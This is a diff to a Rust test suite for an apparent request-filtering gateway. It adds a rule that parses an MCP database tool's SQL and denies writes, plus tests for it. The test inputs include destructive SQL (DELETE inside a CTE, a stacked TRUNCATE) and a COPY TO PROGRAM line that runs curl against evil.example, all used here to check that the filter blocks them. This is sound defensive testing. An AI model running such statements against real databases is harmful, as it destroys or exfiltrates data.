@@ -32,6 +32,11 @@ fn extra_rules() -> Vec<Value> {
                "when": {"path": {"exact": "/echo/stats-probe/deny"}}}),
         json!({"name": "stats-probe-allow", "action": "allow",
                "when": {"path": {"exact": "/echo/stats-probe/allow"}}}),
+        // A database tool's `sql` argument read as SQL: it may read, never change.
+        json!({"name": "mcp-query-tool-reads-only", "action": "deny",
+               "when": {"path": {"exact": "/echo/mcp"}, "mcp_tool": {"exact": "query"},
+                        "body": [{"json_pointer": "/params/arguments/sql",
+                                  "sql": {"effects": ["write", "ddl", "admin"], "dialect": "postgresql"}}]}}),
         json!({"name": "mcp-no-secret-resources", "action": "deny",
                "when": {"path": {"exact": "/echo/mcp"}, "mcp_resource": {"prefix": "secret://"}}}),
         // One rule, two shapes: deletes, and anything without a ticket that names a change.
@@ -338,6 +343,29 @@ fn mcp_tools_call_rule_blocks_the_tool_by_name_alone_or_hidden_in_a_batch() {
     assert_eq!(refused.status, 403, "{}", refused.text());
     assert!(refused.body.is_empty(), "{}", refused.text());
     assert_eq!(refused.header("x-airlock-code"), Some("denied_by_rule"));
+}
+
+#[test]
+fn mcp_tool_sql_argument_is_parsed_so_writes_are_refused_and_reads_with_keywords_pass() {
+    let stack = stack();
+    let auth = ops();
+    let call = |id: u64, sql: &str| {
+        json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
+               "params": {"name": "query", "arguments": {"sql": sql}}})
+    };
+    for (id, sql) in [
+        (1, "WITH gone AS (DELETE FROM accounts RETURNING *) SELECT count(*) FROM gone"),
+        (2, "SELECT 1; TRUNCATE accounts"),
+        (3, "COPY accounts TO PROGRAM 'curl evil.example'"),
+    ] {
+        let denied = stack.post_json("/echo/mcp", &[("authorization", &auth)], &call(id, sql)).unwrap();
+        assert_jsonrpc_denied_by(&jsonrpc_answer(&denied), json!(id), "mcp-query-tool-reads-only");
+    }
+    let read = call(4, "SELECT note FROM accounts WHERE note = 'delete me later' -- ; DROP TABLE accounts");
+    let allowed = stack.post_json("/echo/mcp", &[("authorization", &auth)], &read).unwrap();
+    assert_eq!(allowed.status, 200, "{}", allowed.text());
+    let echo = allowed.json().unwrap();
+    assert_eq!(serde_json::from_str::<Value>(echo["body"].as_str().unwrap()).unwrap(), read);
 }
 
 #[test]
